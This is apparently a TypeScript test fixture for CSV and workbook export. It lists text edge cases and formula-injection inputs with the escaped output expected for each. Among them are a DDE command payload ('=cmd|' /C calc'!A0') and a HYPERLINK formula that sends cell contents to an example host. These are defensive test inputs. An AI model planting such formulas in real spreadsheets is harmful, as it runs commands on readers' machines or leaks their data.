import type {
  Cell,
  Column,
  DocumentWords,
  ReportDocument,
  ReportLanguage,
  Table,
} from "../../../plugin/report/document/report-document.ts";

export const WORDS: DocumentWords = {
  tooFew: "too few",
  notTold: "not told",
  asTable: "As a table",
  warning: "Warning",
  note: "Note",
  figure: "Figure",
  definition: "Meaning",
  contents: "Contents",
  toFigures: "To the figures",
};

/** Texts as names of persons and organisations may be, and what of them stands in a cell of a CSV file and of a workbook. */
export const TEXTS: readonly { readonly given: string; readonly csv: string; readonly xlsx: string }[] = [
  ...[
    "Anna Virtanen",
    "Åsa Öberg-Müller",
    " with blanks at both ends ",
    'the "quoted"',
    '"',
    "semi;colon, comma\ttab|bar",
    "two\nlines",
    "'apostrophe",
    "−5 with a minus sign, not a hyphen",
    "10–11",
    "sep=;",
    "😀 👩‍👩‍👧 e\u0301",
    "مريم",
    "_x000D_",
    "_x000d__x000A_",
    "_x005F_x000D_",
    "a_x0041_",
    "_X000D_",
    "<b>&amp;</b> ]]>",
    "constructor",
    "toString",
    "__proto__",
    "hasOwnProperty",
    "A".repeat(32_767),
  ].map((text) => ({ given: text, csv: text, xlsx: text })),
  { given: "all\r\nline\rends\u2028", csv: "all\nline\nends\n", xlsx: "all\nline\nends\n" },
  { given: "NUL\0, bell\u0007, escape\u001b[31m", csv: "NUL, bell, escape[31m", xlsx: "NUL, bell, escape[31m" },
  { given: "half \ud83d of one", csv: "half  of one", xlsx: "half  of one" },
  { given: "\u202eright to left\u2066", csv: "right to left", xlsx: "right to left" },
  { given: "dam\ufffdged", csv: "dam\ufffdged", xlsx: "dam?ged" },
  { given: "A".repeat(32_768), csv: `${"A".repeat(32_766)}…`, xlsx: `${"A".repeat(32_766)}…` },
  { given: "😀".repeat(20_000), csv: `${"😀".repeat(16_383)}…`, xlsx: `${"😀".repeat(16_383)}…` },
];

/** Texts that would be a formula, or a part of one, and how a CSV file says that they are not. A workbook holds them as given. */
export const FORMULAS: readonly { readonly given: string; readonly csv: string }[] = [
  { given: "=1+1", csv: "'=1+1" },
  { given: "+358401234567", csv: "'+358401234567" },
  { given: "-1+1", csv: "'-1+1" },
  { given: "-5", csv: "'-5" },
  { given: "@SUM(1)", csv: "'@SUM(1)" },
  { given: "\t=1+1", csv: "\t'=1+1" },
  { given: "\r=1+1", csv: "\n'=1+1" },
  { given: "＝1+1", csv: "'＝1+1" },
  { given: "＋1", csv: "'＋1" },
  { given: "－1", csv: "'－1" },
  { given: "＠SUM(1)", csv: "'＠SUM(1)" },
  { given: "  =1+1", csv: "'  =1+1" },
  { given: "\u00a0=1+1", csv: "'\u00a0=1+1" },
  { given: "\u3000=1+1", csv: "'\u3000=1+1" },
  { given: "\u200b\ufeff=1+1", csv: "'\u200b\ufeff=1+1" },
  { given: '"=1+1', csv: "'\"=1+1" },
  { given: ' " "=1+1', csv: '\' " "=1+1' },
  { given: "\0=1+1", csv: "'=1+1" },
  { given: "\u202e=1+1", csv: "'=1+1" },
  { given: "=cmd|' /C calc'!A0", csv: "'=cmd|' /C calc'!A0" },
  { given: '=HYPERLINK("https://example.com?"&A1;"here")', csv: '\'=HYPERLINK("https://example.com?"&A1;"here")' },
  { given: "Anna;=1+1", csv: "Anna;'=1+1" },
  { given: "Anna,=1+1", csv: "Anna,'=1+1" },
  { given: 'Anna, "=1+1', csv: "Anna,' \"=1+1" },
  { given: "Anna\n=1+1", csv: "Anna\n'=1+1" },
  { given: "Anna|@SUM(1)", csv: "Anna|'@SUM(1)" },
];

/** Texts that spreadsheets take for numbers, dates or truth in a CSV file; a workbook holds them as text. */
export const NUMBER_LIKE = [
  "00123",
  "1E5",
  "1.2.2026",
  "2026-10-01",
  "14:00",
  "lokakuu 2026",
  "5 %",
  "(5)",
  "TOSI",
  "3/4",
];

export function textCell(value: string): Cell {
  return { kind: "text", text: value };
}

/** A table with one cell in each row. */
export function tableOfTexts(id: string, texts: readonly string[]): Table {
  return table(id, [{ label: "Name", kind: "text" }], ...texts.map((value) => [textCell(value)]));
}

export function table(id: string, columns: readonly Column[], ...rows: readonly (readonly Cell[])[]): Table {
  return {
    id,
    caption: `The table ${id}`,
    definition: `What ${id} means.`,
    columns,
    rows: rows.map((cells) => ({ cells })),
  };
}

export function documentOf(language: ReportLanguage, tables: readonly Table[]): ReportDocument {
  return {
    language,
    title: "Chats in October 2026",
    facts: [{ label: "Environment", text: "production" }],
    notices: [{ kind: "warning", text: "Two cards have no start time." }],
    tiles: [
      {
        label: "Median wait",
        value: { kind: "seconds", seconds: 75 },
        n: "of 9 chats",
        definition: "Half waited no longer.",
      },
    ],
    sections: [{ id: "wait", title: "Wait", introduction: "Measured in the first live chat.", tables }],
    words: WORDS,
  };
}
